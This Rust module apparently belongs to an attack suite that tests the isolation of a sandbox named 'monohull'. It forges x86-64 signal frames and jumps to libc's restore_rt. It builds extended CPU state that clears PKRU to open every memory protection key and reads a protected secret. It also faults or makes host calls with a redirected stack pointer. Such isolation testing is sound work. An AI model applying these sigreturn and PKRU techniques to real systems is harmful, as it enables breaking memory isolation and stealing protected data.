//! Signals: forged frames, stacks that are not one's own at the moment a signal comes, faults without end.
//!
//! `what` is `frame` (a forged signal frame, and a jump to where handlers return), or the moment at which the stack pointer
//! leads to the place that `how` names: `fault`, `hostcall`, `timer`.

use crate::leap::{Registers, leap};
use crate::memory::touch;
use crate::{Attack, Booty, number};
use core::arch::{asm, naked_asm};
use monohull_std::prelude::*;
use monohull_trampoline::user::stack_pointer;

pub(crate) fn strike(attack: &Attack) -> Booty {
    match attack.what.as_str() {
        "frame" => frame(attack),
        "fault" | "hostcall" | "timer" => with_stack(attack),
        _ => Err("what is frame, fault, hostcall or timer".into()),
    }
}

/// Faults, calls or waits with the stack pointer elsewhere.
fn with_stack(attack: &Attack) -> Booty {
    let address = match attack.what.as_str() {
        "fault" => ud2 as *const () as u64,
        "hostcall" => hostcall as *const () as u64,
        _ => endless as *const () as u64,
    };
    let rsp = attack.places.find(&attack.how)? & !15;
    // SAFETY: none; it is an attack.
    number(unsafe { leap(address, &Registers { rsp, ..Registers::default() }, core::ptr::null_mut()) })
}

#[unsafe(naked)]
extern "C" fn ud2() {
    naked_asm!("ud2")
}

/// Leaves through the gate by a jump: nothing is pushed. Comes back by a pop.
#[unsafe(naked)]
extern "C" fn hostcall() {
    naked_asm!("xor eax, eax", "jmp gs:[0]")
}

#[unsafe(naked)]
extern "C" fn endless() {
    naked_asm!("2:", "pause", "jmp 2b")
}

/// The registers in a signal frame, as the kernel reads them back (`struct sigcontext`), by index of 8 bytes.
const RDI: usize = 8;
const RSP: usize = 15;
const RIP: usize = 16;
const FLAGS: usize = 17;
const SEGMENTS: usize = 18;
const STATE: usize = 23;
/// Words of `struct ucontext` before the registers, and of all of it.
const BEFORE: usize = 5;
const WORDS: usize = 38;
/// In the extended state: the magic number of the frame, the features in it, and where key rights stand.
const MAGIC: u32 = 0x4650_5853;
const MAGIC_END: u32 = 0x4650_5845;
const PKRU: u32 = 1 << 9;
const STATE_MAX: usize = 16 << 10;

#[repr(align(64))]
struct State([u8; STATE_MAX]);

/// A signal frame with one's own choice of registers, for whose return the kernel would open keys: with `how` = `state` by
/// the extended state in it, otherwise by having none, which resets them all.
fn frame(attack: &Attack) -> Booty {
    let mut words = Box::new([0u64; WORDS]);
    // Without state key 0 is open and one's own denied.
    let go_on = if attack.how == "state" { go_on as *const () } else { look as *const () };
    words[BEFORE + RIP] = go_on as u64;
    // One's own stack, a little further down, as after a call.
    words[BEFORE + RSP] = ((stack_pointer() - 4096) & !15) - 8;
    words[BEFORE + RDI] = attack.places.find("visor-data")?;
    words[BEFORE + FLAGS] = 0x202;
    // cs = 0x33, ss = 0x2b.
    words[BEFORE + SEGMENTS] = 0x33 | 0x2b << 48;
    let state = Box::leak(Box::new(State([0; STATE_MAX])));
    if attack.how == "state" {
        // uc_flags: there is an extended state.
        words[0] = 1;
        fill(state);
        words[BEFORE + STATE] = state.0.as_ptr() as u64;
    }
    // The kernel takes the frame to begin 8 bytes below the stack pointer.
    let rsp = Box::leak(words).as_ptr() as u64;
    let registers = Registers { rsp, rax: 15, ..Registers::default() };
    // SAFETY: none; it is an attack.
    number(unsafe { leap(attack.places.find("libc-restore-rt")?, &registers, core::ptr::null_mut()) })
}

/// The processor's state as it is, in the form of a signal frame, with all keys open.
fn fill(state: &mut State) {
    let leaf = core::arch::x86_64::__cpuid_count(0xd, 0);
    let (size, features) = (leaf.ebx, leaf.eax);
    let rights_at = core::arch::x86_64::__cpuid_count(0xd, 9).ebx as usize;
    // SAFETY: none; it is an attack.
    unsafe { asm!("xsave64 [{}]", in(reg) state.0.as_mut_ptr(), in("eax") features, in("edx") 0) };
    let mut put = |at: usize, value: u32| state.0[at..at + 4].copy_from_slice(&value.to_le_bytes());
    if rights_at > 0 {
        put(rights_at, 0);
        let present = u32::from_le_bytes([state.0[512], state.0[513], state.0[514], state.0[515]]);
        let mut put = |at: usize, value: u32| state.0[at..at + 4].copy_from_slice(&value.to_le_bytes());
        put(512, present | PKRU);
    }
    let mut put = |at: usize, value: u32| state.0[at..at + 4].copy_from_slice(&value.to_le_bytes());
    // `struct _fpx_sw_bytes`, in the last 48 bytes of the FXSAVE area.
    put(464, MAGIC);
    put(468, size + 4);
    put(472, features);
    put(480, size);
    put(size as usize, MAGIC_END);
}

/// Where the forged frame leads if nothing of one's own can be used, not even a stack: reads the secret, and stops.
#[unsafe(naked)]
extern "C" fn look() -> ! {
    naked_asm!("mov rax, [rdi]", "ud2")
}

/// Where it leads otherwise.
extern "C" fn go_on(secret: u64) -> ! {
    if let Ok(got) = touch(secret, "read") {
        println!("got {got}");
    }
    monohull_std::process::exit(0)
}
